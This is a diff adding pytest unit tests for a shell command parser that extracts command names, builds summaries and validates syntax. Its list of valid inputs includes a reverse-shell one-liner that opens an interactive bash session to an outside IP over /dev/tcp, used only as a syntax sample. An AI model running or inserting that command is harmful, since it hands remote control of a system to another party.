@@ -1,0 +1,109 @@
+"""Unit tests for command extraction and validation."""
+
+import pytest
+
+from repro.shell import (
+    CommandExtractor,
+    CommandLineValidator,
+    CommandSummary,
+    extract_command_names,
+    is_valid_command_line,
+)
+
+
+class TestCommandNames:
+    def test_single_command(self):
+        assert extract_command_names("ls -la") == ["ls"]
+
+    def test_pipeline_names_in_order(self):
+        assert extract_command_names("cat f | grep x | wc -l") == ["cat", "grep", "wc"]
+
+    def test_sudo_unwrapped(self):
+        assert extract_command_names("sudo docker ps") == ["sudo", "docker"]
+
+    def test_nohup_unwrapped(self):
+        assert extract_command_names("nohup python train.py") == ["nohup", "python"]
+
+    def test_absolute_path_basename(self):
+        assert extract_command_names("/usr/bin/python3 -V") == ["python3"]
+
+    def test_watch_not_unwrapped(self):
+        # `watch -n 1 nvidia-smi`: naive unwrapping would return "1".
+        assert extract_command_names("watch -n 1 nvidia-smi") == ["watch"]
+
+    def test_assignment_only_line_has_no_names(self):
+        assert extract_command_names("FOO=bar") == []
+
+    def test_command_substitution_outer_only(self):
+        assert extract_command_names("echo $(hostname)") == ["echo"]
+
+
+class TestSummaries:
+    def test_summary_fields(self):
+        summary = CommandExtractor().summarize("tar -czf out.tgz dir && ls")
+        assert isinstance(summary, CommandSummary)
+        assert summary.names == ["tar", "ls"]
+        assert "-czf" in summary.flags
+        assert "out.tgz" in summary.arguments
+        assert summary.n_commands == 2
+
+    def test_primary_name(self):
+        assert CommandExtractor().summarize("git status").primary_name == "git"
+
+    def test_primary_name_none_for_assignment(self):
+        assert CommandExtractor().summarize("A=1").primary_name is None
+
+    def test_assignments_collected(self):
+        summary = CommandExtractor().summarize("A=1 B=2 cmd")
+        assert ("A", "1") in summary.assignments
+        assert ("B", "2") in summary.assignments
+
+    def test_try_summarize_returns_none_on_invalid(self):
+        assert CommandExtractor().try_summarize("ls |") is None
+
+    def test_try_summarize_returns_summary_on_valid(self):
+        assert CommandExtractor().try_summarize("ls").names == ["ls"]
+
+
+class TestValidator:
+    VALID = [
+        "ls",
+        "php -r \"phpinfo();\"",
+        "bash -i >& /dev/tcp/1.2.3.4/443 0>&1",
+        "(cd /x && make) > log 2>&1",
+        "a && b; c | d &",
+    ]
+    INVALID = [
+        "",
+        "   ",
+        "ls |",
+        "| ls",
+        "&& a",
+        "a &&",
+        "(unclosed",
+        "echo 'unterminated",
+        'echo "unterminated',
+        "echo $(unclosed",
+        "echo hi >",
+        "/a/b -> /c/d ->",
+    ]
+
+    @pytest.mark.parametrize("line", VALID)
+    def test_valid_lines(self, line):
+        assert is_valid_command_line(line) is True
+
+    @pytest.mark.parametrize("line", INVALID)
+    def test_invalid_lines(self, line):
+        assert is_valid_command_line(line) is False
+
+    def test_explain_returns_message_for_invalid(self):
+        message = CommandLineValidator().explain("ls |")
+        assert message is not None and "pipe" in message
+
+    def test_explain_returns_none_for_valid(self):
+        assert CommandLineValidator().explain("ls") is None
+
+    def test_parse_or_none(self):
+        validator = CommandLineValidator()
+        assert validator.parse_or_none("ls") is not None
+        assert validator.parse_or_none("ls |") is None
